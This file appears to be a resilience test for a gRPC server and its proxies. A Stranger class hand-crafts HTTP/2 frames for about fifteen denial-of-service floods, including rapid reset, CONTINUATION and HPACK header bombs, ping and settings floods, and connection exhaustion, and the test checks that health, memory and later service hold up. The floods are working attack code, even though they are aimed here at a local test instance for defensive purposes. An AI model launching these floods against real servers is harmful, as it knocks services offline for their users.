"""Floods a server with what HTTP/2 and TCP allow a stranger, and looks whether others notice.

For each attack and each way to the server (fronts.py): while one process attacks as fast as it can,
health must be answered, over an old connection and over new ones; the memory of server and proxy must stay
bounded; and after it, a caller must be served. With --strict, for a machine that does nothing else, health
within a second and the caller within two.
"""

import os
import struct
import subprocess
import sys
import threading
import time

import grpc

from fronts import FRONTS, SKIPPED, Certificates, Front, connect, without_haproxy
from harness import Folder, Report, arguments, health_pb2, health_pb2_grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
WATCH = b"/ccst.v1.SamplingService/WatchJob"
UPLOAD = b"/ccst.v1.MeshService/UploadMesh"
MEBIBYTE = 1 << 20
# What an attack may cost: the memory of a healthy server is about 30 MiB.
MEMORY_BYTES = 200 * MEBIBYTE
# A stranger has another address than others: those who share one share its limits.
SOURCE = "127.0.0.2"
HEALTH_SECONDS = 1.0
AFTERWARDS_SECONDS = 2.0


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path=b"/ccst.v1.ServerInfoService/GetServerInfo"):
    return (b"\x83\x86" + field(b":path", path) + field(b":authority", b"x") +
            field(b"content-type", b"application/grpc") + field(b"te", b"trailers"))


class Stranger:
    """One attacker: opens connections and floods them until the time is over."""

    def __init__(self, address, with_tls, seconds):
        self._address = address
        self._with_tls = with_tls
        self._end = time.monotonic() + seconds

    def goes_on(self):
        return time.monotonic() < self._end

    def open(self, reads=True):
        connection = connect(self._address, self._with_tls, SOURCE)
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        # Two threads may not use one TLS session at once in every version: then nothing is read.
        if reads and not self._with_tls:
            threading.Thread(target=self._drain, args=(connection,), daemon=True).start()
        return connection

    def _drain(self, connection):
        try:
            while connection.recv(65536):
                pass
        except OSError:
            pass

    def repeat(self, burst, reads=True):
        """Sends `burst(first stream)` again and again, on new connections as they break."""
        while self.goes_on():
            try:
                connection = self.open(reads)
                for stream in range(1, 1 << 30, 200):
                    connection.sendall(burst(stream))
                    if not self.goes_on():
                        return
            except OSError:
                time.sleep(0.01)

    def rapid_reset(self):
        self.repeat(lambda first: b"".join(
            frame(HEADERS, END_HEADERS, s, request()) + frame(RESET, 0, s, CANCEL)
            for s in range(first, first + 200, 2)))

    def rapid_reset_with_body(self):
        body = frame(DATA, END_STREAM, 0, b"\0\0\0\0\x08\x0a\x06jobs/x")
        self.repeat(lambda first: b"".join(
            frame(HEADERS, END_HEADERS, s, request(WATCH)) + body[:5] + struct.pack(">I", s) + body[9:] +
            frame(RESET, 0, s, CANCEL) for s in range(first, first + 200, 2)))

    def reset_by_server(self):
        """Windows of no increment make the server reset the streams."""
        self.repeat(lambda first: b"".join(
            frame(HEADERS, END_HEADERS, s, request(WATCH)) + frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0")
            for s in range(first, first + 200, 2)))

    def continuation(self):
        self.endless_headers(frame(CONTINUATION, 0, 1, b"\x00\x01a\x7d" + b"b" * 125) * 100)

    def empty_continuation(self):
        self.endless_headers(frame(CONTINUATION, 0, 1) * 1000)

    def long_string(self):
        """A header whose length is announced as 4 GiB, sent piece by piece."""
        self.endless_headers(frame(CONTINUATION, 0, 1, b"c" * 16000) * 10,
                             b"\x00\x01a\x7f\x80\x80\x80\x80\x01")

    def endless_number(self):
        self.endless_headers(frame(CONTINUATION, 0, 1, b"\x80" * 16000) * 10, b"\x00\x7f" + b"\x80" * 1000)

    def endless_headers(self, more, begin=b""):
        while self.goes_on():
            try:
                connection = self.open()
                connection.sendall(frame(HEADERS, 0, 1, begin or request()))
                while self.goes_on():
                    connection.sendall(more)
            except OSError:
                time.sleep(0.01)

    def header_bomb(self):
        """Many references to one long header of the table."""
        long = b"\x40\x01a\x7f" + b"\xd1\x1e" + b"v" * 4000
        block = request() + long + b"\xbe" * 12000
        self.repeat(lambda first: b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, s, block) for s in range(first, first + 20, 2)))

    def pings(self):
        self.repeat(lambda _: frame(PING, 0, 0, b"12345678") * 500)

    def settings(self):
        self.repeat(lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 500, reads=False)

    def empty_data(self):
        while self.goes_on():
            try:
                connection = self.open()
                connection.sendall(frame(HEADERS, END_HEADERS, 1, request(UPLOAD)))
                while self.goes_on():
                    connection.sendall(frame(DATA, 0, 1) * 1000)
            except OSError:
                time.sleep(0.01)

    def window_updates(self):
        self.repeat(lambda _: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000)

    def priorities(self):
        self.repeat(lambda first: frame(PRIORITY, 0, first, b"\0\0\0\0\x10") * 1000)

    def garbage(self):
        while self.goes_on():
            try:
                with connect(self._address, False, SOURCE) as connection:
                    connection.sendall(os.urandom(2000))
            except OSError:
                time.sleep(0.01)

    def connections(self):
        """Opens and closes as fast as it goes, saying next to nothing."""
        while self.goes_on():
            try:
                with connect(self._address, False, SOURCE) as connection:
                    connection.sendall(b"hello")
            except OSError:
                time.sleep(0.01)

    def silent_connections(self):
        """Takes as many places as it gets, and keeps them."""
        held = []
        while self.goes_on():
            try:
                held.append(connect(self._address, False, SOURCE))
                held[-1].setblocking(False)
            except OSError:
                time.sleep(0.01)
            if len(held) > 2000:
                time.sleep(0.1)


ATTACKS = [name for name in vars(Stranger)
           if name not in ("goes_on", "open", "repeat", "endless_headers") and not name.startswith("_")]


def check_health(channel, seconds=20):
    begin = time.monotonic()
    health_pb2_grpc.HealthStub(channel).Check(health_pb2.HealthCheckRequest(), timeout=seconds)
    return time.monotonic() - begin


def check_anew(front):
    channel = front.channel()
    try:
        return check_health(channel)
    finally:
        channel.close()


def flood(report, front, attack, seconds, strict):
    """Figures and verdicts of one attack; times count only when `strict`."""
    name = f"{front.kind} {attack}"
    old = front.channel()
    check_health(old)
    stranger = subprocess.Popen([sys.executable, __file__, "--attack", attack, "--seconds",
                                 str(seconds), "--target", front.address,
                                 *(["--with-tls"] if front.has_tls else [])])
    slowest = {"old": 0.0, "new": 0.0}
    most = 0
    refused = 0
    while stranger.poll() is None:
        if not front.alive():
            break
        most = max(most, front.resident_bytes())
        try:
            slowest["old"] = max(slowest["old"], check_health(old))
        except grpc.RpcError as error:
            report.check(False, f"{name}: an old connection is answered, not {error.code().name}")
            break
        try:
            slowest["new"] = max(slowest["new"], check_anew(front))
        except grpc.RpcError:
            refused += 1
        time.sleep(0.05)
    stranger.kill()
    stranger.wait()
    if not report.check(front.alive(), f"{name}: server and proxy live"):
        return
    begin = time.monotonic()
    try:
        check_anew(front)
        after = time.monotonic() - begin
    except grpc.RpcError as error:
        after = float("inf")
        print(error.details(), flush=True)
    report.check(most < MEMORY_BYTES, f"{name}: at most {most / MEBIBYTE:.0f} MiB")
    report.threshold(f"{name}: health over an old connection", slowest["old"], HEALTH_SECONDS, "s", strict)
    report.check(refused == 0, f"{name}: {refused} new connections refused")
    report.threshold(f"{name}: health over new ones", slowest["new"], HEALTH_SECONDS, "s", strict)
    report.check(after < float("inf"), f"{name}: a caller is served after it")
    report.threshold(f"{name}: served after", after, AFTERWARDS_SECONDS, "s", strict)
    old.close()


def main():
    settings = arguments(__doc__.splitlines()[0], attack="", seconds=3.0, target="", with_tls=False,
                         fronts="bare", attacks="", strict=False)
    if settings.target:
        getattr(Stranger(settings.target, settings.with_tls, settings.seconds), settings.attack)()
        return
    fronts = FRONTS if settings.fronts == "all" else settings.fronts.split(",")
    why_not = without_haproxy()
    if why_not and not set(fronts) <= {"bare", "tls"}:
        print("SKIPPED: " + why_not)
        sys.exit(SKIPPED)
    report = Report()
    for kind in fronts:
        with Folder() as folder:
            certificates = Certificates(folder)
            for attack in settings.attacks.split(",") if settings.attacks else ATTACKS:
                own = os.path.join(folder, attack)
                os.makedirs(own)
                with Front(kind, own, certificates=certificates) as front:
                    flood(report, front, attack, settings.seconds, settings.strict)
    report.exit()


if __name__ == "__main__":
    main()
